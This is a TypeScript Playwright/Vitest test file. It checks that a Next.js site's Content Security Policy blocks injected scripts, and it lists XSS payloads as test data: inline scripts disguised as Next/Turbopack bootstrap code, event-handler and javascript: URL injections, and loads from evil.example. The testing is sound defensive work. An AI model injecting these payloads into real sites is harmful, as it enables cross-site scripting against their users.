import type { Page } from '@playwright/test'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startBrowser } from '#tests/support/browser.ts'
import { sampleSite } from '#tests/support/sample-folder.ts'
import type { Site } from '#tests/support/site.ts'
import { until } from '#tests/support/until.ts'
import { hydrated, visit } from '#tests/support/visitor.ts'

const browser = await startBrowser()
let site: Site
beforeAll(async () => {
  site = await (await sampleSite()).start()
})
afterAll(async () => {
  await site?.close()
  await browser?.close()
})

const act = 'window.hacked=1'
const bundler = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push'

/** What somebody who can write into the page might try; most look like statements that Next writes itself. */
const scripts = [
  act,
  `(self.__next_f=self.__next_f||[]).push([0]);${act}`,
  `(self.__next_f=self.__next_f||[]).push([${act}])`,
  `self.__next_f.push([1,${act}])`,
  `self.__next_f.push([1,""]);${act}`,
  `self.__next_f.push([1,"${act}"]);(()=>{${act}})()`,
  `requestAnimationFrame(function(){$RT=performance.now();${act}});`,
  `${bundler}({"otherChunks":[],"runtimeModuleIds":[${act}]});`,
]

const elements = [
  ...scripts.map(script => `<script>${script}</script>`),
  ...scripts.map(script => `<script id="_R_">${script}</script>`),
  `<script type="module">${act}</script>`,
  '<script src="data:text/javascript,window.hacked=1"></script>',
  '<script src="https://evil.example/a.js"></script>',
  `<img src="nothing" alt="" onerror="${act}">`,
  `<svg onload="${act}"></svg>`,
  `<details open ontoggle="${act}"></details>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
  '<base href="https://evil.example/">',
]

const clicked = [
  `<a class="bait" href="javascript:${act}">x</a>`,
  `<button class="bait" onclick="${act}">x</button>`,
]

/** Writes into the page on its way; the headers stay those of the site, unless told otherwise. */
async function alter(page: Page, added: string, { withoutPolicy = false } = {}) {
  await page.route(`${site.url}/en/projects`, async route => {
    const response = await route.fetch()
    const headers = response.headers()
    if (withoutPolicy) delete headers['content-security-policy']
    const body = (await response.text()).replace('<body>', () => `<body>${added}`)
    await route.fulfill({ response, headers, body })
  })
}

async function isHacked(page: Page, added: string, options = {}): Promise<boolean> {
  await alter(page, added, options)
  await page.goto(`${site.url}/en/projects`, { waitUntil: 'load' })
  for (const bait of await page.locator('.bait').all()) await bait.dispatchEvent('click')
  return await page.evaluate(() => Reflect.get(window, 'hacked') === 1)
}

describe.skipIf(browser === null)('a script written into a page on its way', () => {
  test('would run if it were not for the policy, so that these tests can tell', async () => {
    for (const element of [
      elements[0],
      elements[2],
      elements.find(each => each.includes('onerror')),
      ...clicked,
    ]) {
      const { page } = await visit(browser)
      await alter(page, element ?? '', { withoutPolicy: true })
      await page.goto(`${site.url}/en/projects`)
      for (const bait of await page.locator('.bait').all()) await bait.dispatchEvent('click')
      await until(() => page.evaluate(() => Reflect.get(window, 'hacked') === 1))
    }
  })

  test('does not run, whatever it looks like', async () => {
    const { page, complaints } = await visit(browser)
    await page.route('https://evil.example/**', route => route.fulfill({ body: act }))
    expect(await isHacked(page, [...elements, ...clicked].join('\n'))).toBe(false)
    const refused = complaints.filter(text => text.includes('Content Security Policy'))
    expect(refused.length).toBeGreaterThanOrEqual(scripts.length * 2)
  })

  test('does not keep the page from coming alive', async () => {
    const { page } = await visit(browser)
    expect(await isHacked(page, elements.slice(0, scripts.length).join('\n'))).toBe(false)
    await hydrated(page)
    await page.locator('main a[href="/en/projects/marea"]').click()
    await page.locator('dialog[open] h1', { hasText: 'Marea' }).waitFor()
  })
})

describe.skipIf(browser === null)('the policy of a page', () => {
  test('lets no page of another site frame it, nor anything be fetched elsewhere', async () => {
    const { page } = await visit(browser)
    await page.goto(`${site.url}/en`)
    await hydrated(page)
    const fetched = await page.evaluate(() => fetch('https://evil.example/').then(Boolean, () => false))
    expect(fetched).toBe(false)
    const { headers } = await site.view('/en')
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'self'")
  })
})
